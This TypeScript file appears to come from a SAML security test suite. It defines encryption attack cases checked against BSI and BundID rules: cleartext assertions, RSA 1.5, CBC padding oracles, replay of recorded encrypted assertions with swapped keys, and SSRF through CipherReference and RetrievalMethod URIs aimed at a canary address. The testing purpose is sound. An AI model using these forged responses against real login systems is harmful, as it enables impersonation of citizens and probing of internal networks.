import { encryptAssertion } from '../../saml/encrypt.ts';
import { type Attack, type Attempt, played, type Variant } from '../attack.ts';
import type { Forge } from '../forge/forge.ts';
import { signedPerson } from '../forge/people.ts';
import { replaced } from '../forge/pieces.ts';
import { changed, only, posting, whole } from './deliver.ts';

type Facts = Pick<Attack, 'id' | 'title' | 'harm' | 'severity'> &
  Partial<Attack> & { variants?: (forge: Forge) => readonly Variant[] };

function attack({ variants = () => [], ...own }: Facts): Attack {
  return {
    group: 'encryption',
    references: [],
    requirements: ['A3.10.03', 'A3.5.02', 'A3.6.02'],
    bad: 'login',
    play: played(variants),
    ...own,
  };
}

const encryptedKey = /<(?:\w+:)?EncryptedKey\b[\s\S]*?<\/(?:\w+:)?EncryptedKey>/;

/** What is encrypted in a way that is not allowed, not at all, or for another message. */
export const encryptionAttacks: readonly Attack[] = [
  attack({
    id: 'assertion-in-clear',
    severity: 'serious',
    title: { de: 'Assertion unverschlüsselt', en: 'Assertion not encrypted' },
    harm: {
      de: 'Name, Anschrift und Kennzeichen gehen im Klartext durch Browser, Protokolle und Zwischenstellen; die Richtlinie verbietet, das anzunehmen.',
      en: 'Name, address and key pass browsers, logs and intermediaries in the clear; the guideline forbids to take that.',
    },
    references: ['BSI TR-03172-3 1.0, A3.10.03'],
    requirements: ['A3.10.03'],
    inapplicable: ({ profile }) =>
      profile.content === 'none'
        ? {
            de: 'Die Anwendung nimmt nur unverschlüsselte Antworten an; siehe Ausgangsversuch.',
            en: 'The application takes responses in the clear only; see the control.',
          }
        : undefined,
    variants: (forge) => [
      changed(forge, only, () => ({ profile: { content: 'none' } })),
      ...(forge.profile.sign === 'both'
        ? [
            changed(forge, { de: 'nur die Assertion signiert', en: 'only the assertion signed' }, () => ({
              profile: { content: 'none', sign: 'assertion' },
            })),
          ]
        : []),
    ],
  }),
  attack({
    id: 'rsa-1-5',
    severity: 'serious',
    title: { de: 'Schlüsseltransport RSA 1.5', en: 'Key transport RSA 1.5' },
    harm: {
      de: 'Aus den Antworten auf viele abgewandelte Nachrichten lässt sich eine mitgeschnittene Assertion entschlüsseln (Bleichenbacher).',
      en: 'A recorded assertion can be decrypted from the answers to many altered messages (Bleichenbacher).',
    },
    references: ['XML Encryption 1.1, 5.5.1', 'BSI TR-02102-1'],
    variants: (forge) => [
      changed(forge, only, () => ({ profile: { keyTransport: 'rsa-1_5', content: 'aes256-gcm' } })),
    ],
  }),
  attack({
    id: 'cbc',
    severity: 'serious',
    title: { de: 'Verschlüsselung mit CBC statt GCM', en: 'Encryption with CBC instead of GCM' },
    harm: {
      de: 'CBC schützt nicht vor Veränderung; aus Fehlermeldungen lässt sich der Inhalt Byte für Byte lesen (Padding-Orakel).',
      en: 'CBC does not protect against change; the content can be read byte by byte from error messages (padding oracle).',
    },
    references: [
      'Jager, Somorovsky: How to Break XML Encryption (CCS 2011)',
      'BundID-Schnittstellenbeschreibung 10.2, 5.4',
    ],
    variants: (forge) =>
      (['aes256-cbc', 'aes128-cbc'] as const).map((content) =>
        changed(forge, { de: content.toUpperCase(), en: content.toUpperCase() }, () => ({
          profile: { content },
        })),
      ),
  }),
  attack({
    id: 'encrypted-replay',
    severity: 'critical',
    title: {
      de: 'Verschlüsselte Assertion einer alten Antwort in einer neuen',
      en: 'Encrypted assertion of an old response in a new one',
    },
    harm: {
      de: 'Wer eine Antwort mitgeschnitten hat, meldet sich damit später als diese Person an, ohne sie lesen zu können.',
      en: 'Whoever has recorded a response logs in as that person later, without being able to read it.',
    },
    requirements: ['A3.10.01', 'A3.11.10'],
    async play({ forge, begin, post }) {
      const attempts: Attempt[] = [];
      const old = await begin();
      const recorded = forge.encrypt(forge.signedAssertion(old, signedPerson).xml);
      const fresh = await begin();
      attempts.push({
        name: { de: 'unverändert', en: 'unchanged' },
        visit: await post(fresh.browser, posting(forge.wrap(fresh, [recorded]), fresh)),
      });
      const third = await begin();
      const own = forge.encrypt(forge.signedAssertion(third, signedPerson).xml);
      const foreign = encryptedKey.exec(own)?.[0] ?? '';
      const swapped = replaced(recorded, encryptedKey, foreign);
      attempts.push({
        name: { de: 'mit dem Schlüssel einer anderen Nachricht', en: 'with the key of another message' },
        visit: await post(third.browser, posting(forge.wrap(third, [swapped]), third)),
      });
      return attempts;
    },
  }),
  attack({
    id: 'encryption-fetch',
    severity: 'serious',
    title: {
      de: 'Verschlüsselter Inhalt unter fremder Adresse',
      en: 'Encrypted content at a foreign address',
    },
    harm: {
      de: 'Die Anwendung ruft auf Wunsch eines Fremden Adressen im internen Netz auf.',
      en: 'The application calls addresses of the internal network at the wish of a stranger.',
    },
    references: ['XML Encryption 1.1, 3.3.1'],
    requirements: ['A3.12.01', 'A3.12.03', 'A3.6.01'],
    variants: (forge) => {
      const signed = (login: Parameters<typeof forge.signedAssertion>[0]) =>
        forge.signedAssertion(login, signedPerson).xml;
      const reference = (name: string) =>
        `<xenc:CipherData><xenc:CipherReference URI="${forge.canary}/${name}"/></xenc:CipherData>`;
      return [
        whole({ de: 'Inhalt', en: 'content' }, (login) =>
          forge.wrap(login, [
            replaced(
              forge.encrypt(signed(login)),
              /<xenc:CipherData><xenc:CipherValue>[^<]*<\/xenc:CipherValue><\/xenc:CipherData>(?=<\/xenc:EncryptedData>)/,
              reference('inhalt'),
            ),
          ]),
        ),
        whole({ de: 'Schlüssel', en: 'key' }, (login) =>
          forge.wrap(login, [
            replaced(
              encryptAssertion(signed(login), { certificate: forge.certificate }),
              encryptedKey,
              `<ds:RetrievalMethod Type="http://www.w3.org/2001/04/xmlenc#EncryptedKey" URI="${forge.canary}/schluessel"/>`,
            ),
          ]),
        ),
      ];
    },
  }),
];
